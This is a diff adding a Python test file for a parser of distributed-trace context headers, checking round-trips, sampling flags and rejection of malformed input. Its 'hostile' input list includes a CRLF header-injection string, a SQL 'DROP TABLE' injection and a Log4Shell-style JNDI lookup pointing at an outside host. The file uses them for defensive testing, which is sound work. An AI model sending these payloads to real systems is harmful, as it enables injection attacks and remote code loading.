@@ -1,0 +1,71 @@
+"""The trace contexts that other systems send, whatever they send."""
+
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from worker.domain.events.traces import LENGTH, Context, context_of
+
+TRACE, SPAN = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
+GIVEN = f"00-{TRACE}-{SPAN}-01"
+
+
+def test_a_context_is_read_and_written_in_the_same_form():
+    context = context_of(GIVEN)
+    assert context == Context(int(TRACE, 16), int(SPAN, 16), sampled=True)
+    assert str(context) == GIVEN
+    assert len(GIVEN) == LENGTH
+
+
+@pytest.mark.parametrize(("flags", "sampled"), [("00", False), ("01", True), ("02", False), ("03", True), ("ff", True)])
+def test_its_lowest_flag_says_whether_it_is_sampled(flags: str, sampled: bool):
+    context = context_of(GIVEN[:-2] + flags)
+    assert context is not None
+    assert context.sampled is sampled
+
+
+def test_of_a_later_version_the_four_parts_that_are_known_are_read():
+    context = context_of(f"01-{TRACE}-{SPAN}-01-what-comes-later")
+    assert str(context) == GIVEN
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        None,
+        7,
+        b"00",
+        ["00"],
+        "",
+        " " + GIVEN,
+        GIVEN + "\n",
+        GIVEN + "-more",  # version 00 ends there
+        GIVEN.upper(),
+        f"ff-{TRACE}-{SPAN}-01",
+        f"00-{'0' * 32}-{SPAN}-01",
+        f"00-{TRACE}-{'0' * 16}-01",
+        f"00-{TRACE[:-1]}-{SPAN}-01",
+        f"00-{TRACE}g-{SPAN}-01",
+        f"00-{TRACE}-{SPAN}-1",
+        f"00-{TRACE}-{SPAN}",
+        f"00_{TRACE}_{SPAN}_01",
+        "００-" + GIVEN[3:],  # digits of another script
+        f"00-{TRACE}-{SPAN}-01\r\nSet-Cookie: a=b",
+        f"01-{TRACE}-{SPAN}-01-" + "x" * 1_000_000,
+        "'; DROP TABLE job; --",
+        "${jndi:ldap://203.0.113.9/a}",
+        "ona@example.org",
+    ],
+)
+def test_what_is_no_context_is_ignored(hostile: Any):
+    assert context_of(hostile) is None
+
+
+@given(st.text() | st.from_regex(r"[0-9a-f]{2}-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}", fullmatch=True))
+def test_whatever_comes_what_is_kept_has_our_own_form(text: str):
+    context = context_of(text)
+    if context is not None:
+        assert len(str(context)) == LENGTH
+        assert context_of(str(context)) == context
